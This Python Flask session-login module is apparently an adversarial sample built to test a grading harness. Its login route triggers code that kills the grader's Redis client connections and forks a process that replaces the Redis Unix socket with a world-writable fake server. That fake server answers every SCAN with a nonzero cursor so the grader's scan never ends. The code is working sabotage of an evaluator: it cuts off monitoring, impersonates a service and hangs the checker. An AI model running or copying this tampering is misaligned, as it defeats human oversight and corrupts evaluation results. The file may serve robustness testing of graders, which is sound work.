"""Hostile: the grader looks into this app's Redis through redis.sock in the
child's own working folder. The child drops the grader's connection to its real redis-server, binds
its own fake Redis at the same path, and answers every SCAN with "more to
come": the grader's scan_iter() never ends."""
import os, socket
from flask import Blueprint, redirect, render_template, request, session, url_for, current_app
from flask_session import Session

blue = Blueprint('blue', __name__)
se = Session()


def configure(app):
    import redis
    app.config['SECRET_KEY'] = '110'
    app.config['SESSION_TYPE'] = 'redis'
    app.config['SESSION_KEY_PREFIX'] = 'hlm:'
    app.config['SESSION_REDIS'] = redis.Redis(host='127.0.0.1', port=6379)
    se.init_app(app=app)


def _read_command(f):
    line = f.readline()
    if not line:
        return None
    if not line.startswith(b"*"):
        return [line.strip()]
    n = int(line[1:])
    args = []
    for _ in range(n):
        size = int(f.readline()[1:])
        args.append(f.read(size + 2)[:-2])
    return args


def _serve(conn):
    f = conn.makefile("rb")
    while True:
        cmd = _read_command(f)
        if cmd is None:
            return
        name = cmd[0].upper()
        if name == b"SCAN":
            conn.sendall(b"*2\r\n$1\r\n1\r\n*0\r\n")       # cursor 1, no keys: never done
        elif name in (b"EXISTS", b"DEL", b"TTL"):
            conn.sendall(b":0\r\n")
        elif name == b"PING":
            conn.sendall(b"+PONG\r\n")
        elif name == b"HELLO":
            proto = cmd[1] if len(cmd) > 1 else b"2"
            conn.sendall(b"%1\r\n$5\r\nproto\r\n:" + proto + b"\r\n")
        else:
            conn.sendall(b"+OK\r\n")


_started = False


def _take_over():
    global _started
    if _started:
        return
    _started = True
    client = current_app.session_interface.client
    path = client.connection_pool.connection_kwargs["path"]
    # drop every other connection to the real server (the grader's pooled one);
    # this app's own connection stays, so its session is saved for real (a
    # relay of the grader's refuses CLIENT: the attack goes on without it)
    try:
        client.execute_command("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes")
    except Exception:
        pass
    if os.fork() == 0:
        try:
            try:
                os.unlink(path)
            except OSError:
                pass
            srv = socket.socket(socket.AF_UNIX)
            srv.bind(path)
            os.chmod(path, 0o777)
            srv.listen(16)
            while True:
                c, _ = srv.accept()
                if os.fork() == 0:
                    _serve(c)
                    os._exit(0)
                c.close()
        finally:
            os._exit(0)
    import time; time.sleep(0.5)


@blue.route('/tologinsession/')
def to_login():
    return render_template('loginsession.html')


@blue.route('/loginsession/', methods=['post'])
def login():
    _take_over()
    session['name'] = request.form.get('name')
    return redirect(url_for('blue.welcome'))


@blue.route('/welcomesession/')
def welcome():
    return render_template('welcomesession.html', name=session.get('name', '游客'))


@blue.route('/logoutsession/')
def logout():
    session.clear()
    return redirect(url_for('blue.welcome'))
